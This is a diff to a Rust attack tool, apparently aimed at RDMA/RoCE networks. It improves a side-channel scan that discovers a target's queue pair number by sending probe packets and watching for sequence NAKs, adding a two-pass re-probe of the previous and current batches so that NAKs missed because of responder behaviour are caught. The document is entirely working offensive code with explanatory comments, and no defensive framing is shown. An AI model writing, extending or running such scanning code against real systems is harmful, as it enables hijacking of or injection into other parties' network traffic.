@@ -222,6 +222,7 @@ pub fn run(a: &AttackArgs) -> Result<ExitCode> {
             let mut found = None;
             let mut q = a.from;
             let end = (u64::from(a.from) + count).min(1 << 24) as u32;
+            let mut prev: Vec<u32> = Vec::new();
             'scan: while q < end {
                 let batch: Vec<u32> = (q..end.min(q + 16)).collect();
                 q += batch.len() as u32;
@@ -234,21 +235,28 @@ pub fn run(a: &AttackArgs) -> Result<ExitCode> {
                 }
                 settle(&sock, &mut learner, &mut buf, wait)?;
                 if seq_naks(&learner) == before {
+                    prev = batch;
                     continue;
                 }
-                // a NAK after this batch (or a late one for the last): which QPN, one at a time
-                for &c in &batch {
-                    let before = seq_naks(&learner);
-                    let f = probe(c, &learner);
-                    learner.sent(&f);
-                    sock.send(&f)?;
-                    sent += 1;
+                // a NAK after this batch (or a late one for the last): which QPN, one at a time,
+                // twice over — a responder NAKs a gap once until the requester's resend fills it,
+                // so each pass first lets the flow catch up
+                for _pass in 0..2 {
                     settle(&sock, &mut learner, &mut buf, wait * 4)?;
-                    if seq_naks(&learner) > before {
-                        found = Some(c);
-                        break 'scan;
+                    for &c in prev.iter().chain(&batch) {
+                        let before = seq_naks(&learner);
+                        let f = probe(c, &learner);
+                        learner.sent(&f);
+                        sock.send(&f)?;
+                        sent += 1;
+                        settle(&sock, &mut learner, &mut buf, wait * 4)?;
+                        if seq_naks(&learner) > before {
+                            found = Some(c);
+                            break 'scan;
+                        }
                     }
                 }
+                prev = batch;
             }
             scan = Some((found, q - a.from));
         }
